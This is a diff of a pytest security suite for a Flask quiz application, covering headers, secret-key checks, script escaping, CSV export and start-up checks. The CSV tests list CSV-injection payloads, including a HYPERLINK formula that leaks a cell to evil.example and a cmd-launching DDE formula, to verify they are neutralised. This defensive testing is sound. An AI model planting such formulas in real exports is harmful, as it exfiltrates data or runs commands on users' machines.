@@ -9,10 +9,14 @@ this file covers what those leave out.
 
 from __future__ import annotations
 
+import csv
 import io
+import os
 import re
+import sqlite3
 import subprocess
 import sys
+from dataclasses import replace
 from pathlib import Path
 from urllib.parse import urlsplit
 
@@ -20,11 +24,12 @@ import pytest
 from sqlalchemy import func, select
 from werkzeug.security import generate_password_hash
 
-from quiz import create_app, models, store
-from quiz.bank.schema import SINGLE_CHOICE, Option, Question
+from quiz import create_app, models, safe_csv, store
+from quiz.bank.schema import Option, Question
 from quiz.extensions import db
-from quiz.security import KNOWN_WEAK_KEYS
 from tests.conftest import form_token
+from tests.factories import best_option
+from tests.live_server import free_port
 from tests.takers import Taker
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -55,14 +60,14 @@ def sign_in(client, next_url=None):
 def finished(client, app):
     taker = Taker(client, app)
     taker.start()
-    taker.answer_all(lambda q: [q.options[0].id])
+    taker.answer_all(best_option)
     assert taker.finish().status_code == 303
     return taker
 
 
 # --- headers ---------------------------------------------------------------------------------
 
-def assert_security_headers(response) -> None:
+def assert_security_headers(response, private: bool = True) -> None:
     headers = response.headers
     csp = {d.split()[0]: d.split()[1:] for d in headers["Content-Security-Policy"].split("; ")}
     assert csp["default-src"] == ["'self'"]
@@ -71,17 +76,20 @@ def assert_security_headers(response) -> None:
     assert csp["frame-ancestors"] == ["'none'"]
     assert csp["object-src"] == ["'none'"] and csp["base-uri"] == ["'none'"]
     assert headers["X-Content-Type-Options"] == "nosniff"
-    assert headers["Referrer-Policy"] == "no-referrer"  # tokens in URLs never leave the site
+    # Tokens in URLs never leave the site; same-origin referers stay (the CSRF check needs them).
+    assert headers["Referrer-Policy"] == "same-origin"
     assert headers["X-Frame-Options"] == "DENY"
+    assert "Strict-Transport-Security" not in headers  # the test client speaks plain http
+    if private:
+        assert headers["Cache-Control"] == "no-store"
+    else:
+        assert "no-store" not in headers.get("Cache-Control", "")
 
 
 @pytest.mark.parametrize("method, url, status", [
     ("GET", "/", 200),
     ("GET", "/instructor/login", 200),
-    ("GET", "/static/style.css", 200),
-    ("GET", "/static/favicon.svg", 200),
     ("GET", "/no/such/page", 404),
-    ("GET", "/static/no-such-file.css", 404),
     ("GET", "/a/not-a-real-token-but-long-enough/section/1", 404),
     ("GET", "/report/not-a-real-token-but-long-enough.json", 404),
     ("POST", "/start", 400),  # no CSRF token
@@ -95,10 +103,21 @@ def test_every_response_has_the_security_headers(client, method, url, status):
     assert_security_headers(response)
 
 
-def test_the_quiz_and_report_pages_have_the_security_headers(client, finished):
+@pytest.mark.parametrize("url, status", [
+    ("/static/style.css", 200), ("/static/favicon.svg", 200), ("/static/no-such-file.css", 404)])
+def test_static_files_may_be_cached(client, url, status):
+    response = client.get(url)
+    assert response.status_code == status
+    assert_security_headers(response, private=False)
+
+
+def test_the_quiz_and_report_pages_have_the_security_headers(client, app, finished):
+    taker = Taker(client, app)  # one attempt still being taken, one finished
+    taker.start()
     token = finished.token
-    for url in (f"/a/{token}/review", f"/a/{token}", f"/report/{token}", f"/report/{token}.json",
-                f"/report/{token}.csv"):
+    for url in (f"/a/{taker.token}", f"/a/{taker.token}/section/1", f"/a/{taker.token}/review",
+                f"/a/{taker.token}/saved", f"/a/{token}", f"/report/{token}",
+                f"/report/{token}.json", f"/report/{token}.csv"):
         response = client.get(url)
         assert response.status_code in (200, 302), url
         assert_security_headers(response)
@@ -107,10 +126,61 @@ def test_the_quiz_and_report_pages_have_the_security_headers(client, finished):
 def test_instructor_pages_have_the_security_headers(client, instructor):
     assert_security_headers(sign_in(client))
     for url in ("/instructor/", "/instructor/statistics", "/instructor/bank",
-                "/instructor/questions/new", "/instructor/attempts.csv"):
+                "/instructor/questions/new", "/instructor/attempts.csv",
+                "/instructor/bank/export.zip"):
         response = client.get(url)
         assert response.status_code == 200, url
         assert_security_headers(response)
+
+
+# A value for each URL variable of the app's routes; a route with a new variable fails the
+# test below until it is given one here, so no future page escapes the check.
+SAMPLE_VALUES = {"number": 1, "question_id": "tech-rate-vocal-session"}
+
+
+def test_no_page_but_the_static_files_may_be_stored(app, client, instructor, finished):
+    """Walks every GET route there is, signed in, so a route added later is checked too."""
+    sign_in(client)
+    values = {**SAMPLE_VALUES, "token": finished.token}
+    checked = []
+    for rule in app.url_map.iter_rules():
+        if "GET" not in rule.methods or rule.endpoint == "static":
+            continue
+        missing = rule.arguments - values.keys()
+        assert not missing, f"give {rule.rule} sample values for {sorted(missing)} in SAMPLE_VALUES"
+        url = rule.build({name: values[name] for name in rule.arguments})[1]
+        response = client.get(url)
+        assert response.status_code < 400, url
+        assert response.headers["Cache-Control"] == "no-store", url
+        checked.append(rule.endpoint)
+    assert {"report.show", "report.download_csv", "taking.section", "instructor.export_attempts",
+            "instructor.questions", "auth.login"} <= set(checked)
+
+
+def test_strict_transport_security_over_https_only(client):
+    assert "Strict-Transport-Security" not in client.get("/").headers
+    hsts = client.get("/", base_url="https://quiz.test").headers["Strict-Transport-Security"]
+    assert hsts.startswith("max-age=") and int(hsts.split("=")[1].split(";")[0]) >= 365 * 24 * 3600
+
+
+@pytest.mark.parametrize("trusted_proxies, forwarded_proto, expected", [
+    (1, "https", True), (1, "http", False), (0, "https", False)])
+def test_strict_transport_security_behind_a_proxy(production_app, monkeypatch, trusted_proxies,
+                                                  forwarded_proto, expected):
+    """Only a trusted proxy's word that the request came over https counts."""
+    monkeypatch.setenv("TRUSTED_PROXIES", str(trusted_proxies))
+    app = create_app({"SQLALCHEMY_DATABASE_URI": production_app.config["SQLALCHEMY_DATABASE_URI"]})
+    response = app.test_client().get("/", headers={"X-Forwarded-Proto": forwarded_proto})
+    assert ("Strict-Transport-Security" in response.headers) == expected
+
+
+@pytest.mark.parametrize("url, allowed", [("/start", {"POST"}), ("/instructor/logout", {"POST"}),
+                                          ("/a/not-a-real-token-but-long-enough/finish", {"POST"})])
+def test_method_not_allowed_says_what_is_allowed(client, url, allowed):
+    response = client.get(url)
+    assert response.status_code == 405
+    assert "This page cannot be used that way." in response.get_data(as_text=True)
+    assert set(response.headers["Allow"].split(", ")) - {"OPTIONS"} == allowed
 
 
 def test_server_errors_have_the_security_headers(app, client):
@@ -192,10 +262,43 @@ def test_session_cookie_is_not_secure_when_testing(app):
 
 # --- the secret key --------------------------------------------------------------------------
 
-@pytest.mark.parametrize("key", [None, "", *sorted(KNOWN_WEAK_KEYS), "short-key-123"])
-def test_production_refuses_to_start_without_a_real_secret_key(tmp_path, key):
-    with pytest.raises(RuntimeError, match="SECRET_KEY is missing or too weak"):
-        create_app({"SECRET_KEY": key, "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'x.db'}"})
+def refusal(capsys, settings: dict) -> str:
+    """Build the app; it must stop with exit status 3 and one line on stderr, which is returned."""
+    with pytest.raises(SystemExit) as stopped:
+        create_app(settings)
+    assert stopped.value.code == 3
+    lines = capsys.readouterr().err.splitlines()
+    assert len(lines) == 1, lines
+    return lines[0]
+
+
+@pytest.mark.parametrize("key, reason", [
+    (None, "SECRET_KEY is missing"),
+    ("", "SECRET_KEY is set but empty"),
+    ("9f2c4e6a8b0d1f3e5a7c9e1b3d5f7a9", "shorter than 32 characters"),
+    ("dev", "shorter than 32 characters"),
+    ("x" * 64, "fewer than 10 different characters"),
+    ("ab12" * 16, "fewer than 10 different characters"),
+    ("changeme-changeme-changeme-changeme", "fewer than 10 different characters"),
+    ("Password-Secret-Changeme-Dev-Key-2024", "well-known words"),
+    ("my-dev-secret-key-for-testing-flask-quiz-123", "well-known words"),
+])
+def test_production_refuses_to_start_without_a_strong_secret_key(tmp_path, capsys, key, reason):
+    line = refusal(capsys, {"SECRET_KEY": key, "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'x.db'}"})
+    assert reason in line and "secrets.token_hex(32)" in line
+
+
+@pytest.mark.parametrize("key", [STRONG_KEY, "Tr0ub4dor&3-correct-horse-battery-staple-9Qz"])
+def test_production_starts_with_a_strong_secret_key(tmp_path, key):
+    app = create_app({"SECRET_KEY": key, "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'x.db'}"})
+    assert app.config["SECRET_KEY"] == key
+
+
+def test_an_empty_secret_key_variable_is_an_error_not_a_fall_back(tmp_path, capsys, monkeypatch):
+    """Not even in testing mode, and not to the instance/secret_key file `make run` writes."""
+    monkeypatch.setenv("SECRET_KEY", "")
+    line = refusal(capsys, {"TESTING": True, "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'x.db'}"})
+    assert "SECRET_KEY is set but empty" in line
 
 
 @pytest.mark.parametrize("mode", [{"TESTING": True}, {"DEBUG": True}])
@@ -211,14 +314,21 @@ def test_testing_without_a_key_gets_a_random_one(tmp_path):
     assert len(app.config["SECRET_KEY"]) >= 32
 
 
-@pytest.mark.parametrize("key, refused", [("dev", True), ("changeme", True), (STRONG_KEY, False)])
-def test_the_server_process_refuses_a_weak_key(tmp_path, key, refused):
-    """What gunicorn does, `create_app()` in a fresh process, judged by its exit."""
-    env = {"PATH": "/usr/bin:/bin", "SECRET_KEY": key, "DATABASE_URL": f"sqlite:///{tmp_path / 'x.db'}"}
-    done = subprocess.run([sys.executable, "-c", "from quiz import create_app; create_app()"],
-                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=60)
-    assert (done.returncode != 0) == refused, done.stderr
-    assert ("SECRET_KEY is missing or too weak" in done.stderr) == refused
+def create_app_in_a_new_process(env: dict, *prefix: str) -> subprocess.CompletedProcess:
+    """What gunicorn does: `create_app()` in a fresh process, settings from `env` only."""
+    return subprocess.run([*prefix, sys.executable, "-c", "from quiz import create_app; create_app()"],
+                          cwd=ROOT, env={"PATH": "/usr/bin:/bin", **env}, capture_output=True,
+                          text=True, timeout=60)
+
+
+@pytest.mark.parametrize("key, refused", [("", True), ("dev", True), ("changeme" * 4, True),
+                                          (STRONG_KEY, False)])
+def test_the_server_process_refuses_a_weak_key_in_one_line(tmp_path, key, refused):
+    done = create_app_in_a_new_process({"SECRET_KEY": key,
+                                        "DATABASE_URL": f"sqlite:///{tmp_path / 'x.db'}"})
+    assert done.returncode == (3 if refused else 0), done.stderr
+    if refused:
+        assert done.stderr.startswith("Error: SECRET_KEY is") and done.stderr.count("\n") == 1
 
 
 # --- redirects -------------------------------------------------------------------------------
@@ -266,11 +376,11 @@ def test_instructor_text_cannot_inject_script_into_the_report(app, client):
     """The report repeats question prompts, options and feedback (gaps, scenarios to
     revisit, skipped questions): all of it must come out as text."""
     hostile = Question(
-        id="tech-scn-hostile", area="technical", type=SINGLE_CHOICE,
+        id="tech-scn-hostile", area="technical", type="single_choice",
         prompt=f"Pick one {SCRIPT}", topics=("skill-technical",), feedback=f"Feedback {IMAGE}",
         options=(Option("a", f"Right {IMAGE}", 3, f"Good {SCRIPT}"),
                  Option("b", f"Wrong {SCRIPT}", 0, f"Bad {IMAGE}")))
-    skipped = Question(id="tech-scn-skipped", area="technical", type=SINGLE_CHOICE,
+    skipped = Question(id="tech-scn-skipped", area="technical", type="single_choice",
                        prompt=f"Skipped {IMAGE}", topics=("skill-technical",),
                        options=(Option("a", "A", 1), Option("b", "B", 0)))
     with app.app_context():
@@ -280,7 +390,7 @@ def test_instructor_text_cannot_inject_script_into_the_report(app, client):
     taker = Taker(client, app)
     taker.start()
     taker.answer_all(lambda q: [] if q.id == skipped.id else (
-        ["b"] if q.id == hostile.id else [q.options[0].id]))
+        ["b"] if q.id == hostile.id else best_option(q)))
     taker.finish()
     html = client.get(f"/report/{taker.token}").get_data(as_text=True)
     assert "Pick one &lt;script&gt;" in html and "Skipped &lt;img" in html
@@ -320,7 +430,7 @@ def test_oversize_sign_in_is_413_and_signs_nobody_in(app, client, instructor):
         "email": EMAIL, "password": PASSWORD, "csrf_token": token, "padding": too_big(app)})
     assert response.status_code == 413
     assert client.get("/instructor/").status_code == 302
-    assert count(app, models.LoginFailure) == 0
+    assert count(app, models.ThrottleSlot) == 0
 
 
 def test_oversize_upload_is_413_and_imports_nothing(app, client, instructor):
@@ -353,3 +463,108 @@ def test_oversize_chunked_body_is_413_not_cut_short(app, client):
     response = client.post(taker.section_url(1), environ_overrides=chunked(answer.encode()))
     assert response.status_code == 303
     assert taker.stored() == {question.id: [question.options[0].id]}
+
+
+# --- CSV downloads and spreadsheet formulas --------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_formula_like_text_is_neutralised_and_numbers_stay_numbers(text):
+    out = io.StringIO()
+    safe_csv.Writer(out).writerow([text, -12, 3.5, "plain", "a=1", None])
+    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + text, "-12", "3.5", "plain", "a=1", ""]
+
+
+def test_the_takers_csv_neutralises_formulas_in_bank_text(app, client, real_bank):
+    """Area titles come from whoever maintains the bank; a spreadsheet must show them as text."""
+    hostile = FORMULAS[0]
+    areas = tuple(replace(a, title=hostile) if a.key == "technical" else a for a in real_bank.areas)
+    with app.app_context():
+        store.save_bank(replace(real_bank, areas=areas))
+    taker = Taker(client, app)
+    taker.start()
+    taker.answer_all(best_option)
+    taker.finish()
+    rows = list(csv.DictReader(io.StringIO(client.get(f"/report/{taker.token}.csv").get_data(as_text=True))))
+    assert {r["area"]: r["title"] for r in rows}["technical"] == "'" + hostile
+
+
+def test_attempts_csv_neutralises_formulas_in_stored_answers(app, client, instructor):
+    """Stored option ids are checked on the way in; the CSV does not rely on that."""
+    with app.app_context():
+        bank = store.current_bank()
+        question = bank.questions[0]
+        attempt = models.Attempt(version_ids=[q.version_id for q in bank.questions],
+                                 finished_at=models.utcnow())
+        db.session.add(attempt)
+        db.session.flush()
+        db.session.add(models.Answer(attempt_id=attempt.id, question_id=question.id,
+                                     version_id=question.version_id, option_ids=["=1+2"]))
+        db.session.commit()
+    sign_in(client)
+    rows = list(csv.DictReader(io.StringIO(client.get("/instructor/attempts.csv").get_data(as_text=True))))
+    assert rows[0][question.id] == "'=1+2"
+
+
+# --- start-up checks -------------------------------------------------------------------------
+
+# Root may write any file: these tests drop the capabilities that let it, so modes count.
+AS_AN_ORDINARY_USER = (("setpriv", "--bounding-set", "-dac_override,-dac_read_search,-fowner")
+                       if os.geteuid() == 0 else ())
+
+
+@pytest.fixture
+def read_only_database(tmp_path):
+    folder = tmp_path / "data"
+    folder.mkdir()
+    database = folder / "quiz.sqlite3"
+    sqlite3.connect(database).close()
+    database.chmod(0o444)
+    yield database
+    database.chmod(0o644)
+    folder.chmod(0o755)
+
+
+def test_an_unwritable_database_file_stops_start_up_in_one_line(read_only_database):
+    done = create_app_in_a_new_process({"SECRET_KEY": STRONG_KEY,
+                                        "DATABASE_URL": f"sqlite:///{read_only_database}"},
+                                       *AS_AN_ORDINARY_USER)
+    assert done.returncode == 3
+    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr, done.stderr
+    assert done.stderr.startswith(f"Error: The database file {read_only_database} is not writable by ")
+    assert "chown or chmod" in done.stderr and "DATABASE_URL" in done.stderr
+
+
+def test_an_unwritable_database_folder_stops_start_up_in_one_line(read_only_database):
+    read_only_database.chmod(0o644)
+    read_only_database.parent.chmod(0o555)  # SQLite could not write its -wal and -shm files
+    done = create_app_in_a_new_process({"SECRET_KEY": STRONG_KEY,
+                                        "DATABASE_URL": f"sqlite:///{read_only_database}"},
+                                       *AS_AN_ORDINARY_USER)
+    assert done.returncode == 3, done.stderr
+    assert done.stderr.startswith(f"Error: The database folder {read_only_database.parent} is not "
+                                  "writable by "), done.stderr
+
+
+def test_gunicorn_stops_at_once_on_an_unwritable_database(read_only_database):
+    """No worker restarting in a loop, no 500 on the first request: gunicorn exits, and the
+    line that says why is in its output."""
+    env = {"PATH": "/usr/bin:/bin", "SECRET_KEY": STRONG_KEY,
+           "DATABASE_URL": f"sqlite:///{read_only_database}"}
+    done = subprocess.run([*AS_AN_ORDINARY_USER, sys.executable, "-m", "gunicorn", "-w", "2",
+                           "-b", f"127.0.0.1:{free_port()}", "quiz:create_app()"],
+                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=60)
+    assert done.returncode != 0
+    assert f"Error: The database file {read_only_database} is not writable" in done.stderr
+    # No traceback through the app's code (gunicorn may print its own while halting).
+    assert not re.search(r'File "[^"]*/quiz/', done.stderr), done.stderr
+
+
+def test_a_writable_database_starts(tmp_path):
+    done = create_app_in_a_new_process({"SECRET_KEY": STRONG_KEY,
+                                        "DATABASE_URL": f"sqlite:///{tmp_path / 'quiz.sqlite3'}"},
+                                       *AS_AN_ORDINARY_USER)
+    assert done.returncode == 0, done.stderr
